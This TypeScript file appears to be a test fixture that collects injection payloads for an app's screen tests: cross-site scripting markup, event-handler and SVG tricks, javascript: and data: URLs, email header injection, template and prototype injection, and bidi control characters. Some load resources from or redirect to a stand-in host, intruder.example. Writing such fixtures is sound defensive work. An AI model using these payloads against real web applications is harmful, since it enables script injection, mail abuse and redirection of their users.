/*
 * Injection payloads. One that is executed is detected by a call of `intruded`, a request to FOREIGN_HOST, a
 * class, style or attribute that contains MARKER, or a link with other targets (tests/screens/injection-checks.ts).
 */

/** Only payloads send requests to this host. */
export const FOREIGN_HOST = 'intruder.example';
/** Part of each class, id or attribute that a payload tries to add. */
export const MARKER = 'intruder';

const CALL = 'intruded()';
const URL = `//${FOREIGN_HOST}/`;
const MARKUP = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=${URL}x.js></SCRIPT>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</ScRiPt ><img src=x onerror=${CALL}>`,
  `<!--<script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</noscript><img src=x onerror=${CALL}>`,
  // Long, but short enough for several fields of one document.
  `<b>${CALL}</b>`.repeat(1500),
  `<scr<script>ipt>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `<template><script>${CALL}</script></template>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="${URL}x.swf">`,
  `<base href="https:${URL}">`,
  `<meta http-equiv="refresh" content="0;url=https:${URL}">`,
  `<link rel=stylesheet href="${URL}x.css">`,
  `<form action="https:${URL}"><button>Send</button></form>`,
];

const EVENT_HANDLERS = [
  `<img src=x onerror=${CALL}>`,
  `<img src="${URL}pixel.png">`,
  `" autofocus onfocus="${CALL}" ${MARKER}="`,
  `' onmouseover='${CALL}' ${MARKER}='`,
  `\` onload=${CALL} ${MARKER}=\``,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<div style="animation:spin 1s" onanimationstart=${CALL}>`,
];

const SVG_AND_MATHML = [
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
];

const URLS = [
  `javascript:${CALL}`,
  `  JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `https:${URL}`,
  `../../admin/dashboard?next=${URL}#x`,
];

const MAIL_AND_PHONE_LINKS = [
  `grace@example.com?bcc=${MARKER}@${FOREIGN_HOST}`,
  `grace@example.com,${MARKER}@${FOREIGN_HOST}`,
  `grace@example.com\r\nBcc: ${MARKER}@${FOREIGN_HOST}`,
  `grace@example.com%0ABcc:${MARKER}@${FOREIGN_HOST}`,
  `+1 212 555 0100;phone-context=${MARKER}`,
];

const TEMPLATES = [
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
];

const CLASSES = [
  `fas fa-cloud ${MARKER} fixed inset-0 z-60`,
  `fas fa-constructor" class="${MARKER}`,
  `blue;background:url(${URL}x.png)`,
  'constructor',
  '__proto__',
];

const CONTROL_CHARACTERS = [
  `\u202Eecnarg\u2066 ${CALL}\u202E`,
  `\u2028${CALL}\u2029\u0000\uFEFF\u200B`,
];

/** All payloads, without duplicates. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...EVENT_HANDLERS,
  ...SVG_AND_MATHML,
  ...URLS,
  ...MAIL_AND_PHONE_LINKS,
  ...TEMPLATES,
  ...CLASSES,
  ...CONTROL_CHARACTERS,
];
